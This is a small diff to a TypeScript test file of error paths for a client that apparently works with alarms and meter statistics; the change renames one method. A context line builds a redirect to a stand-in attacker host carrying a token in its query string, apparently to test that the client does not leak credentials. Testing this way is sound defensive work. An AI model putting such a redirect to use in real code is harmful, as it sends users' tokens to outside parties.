@@ -74,7 +74,7 @@ const paths: ErrorPath[] = [
     (token) => empty(302, { Location: `https://attacker.example/?token=${token}` }),
     (c) => c.deleteAlarm(ALARM),
   ],
-  ["a body cut midway", () => brokenBody(200, "["), (c) => c.getStatistics("cpu_util")],
+  ["a body cut midway", () => brokenBody(200, "["), (c) => c.getMeterStatistics("cpu_util")],
   ["a body that stalls", () => stalledBody(200, "["), (c) => c.getAlarm(ALARM, { timeoutMs: 20 })],
 ];
 
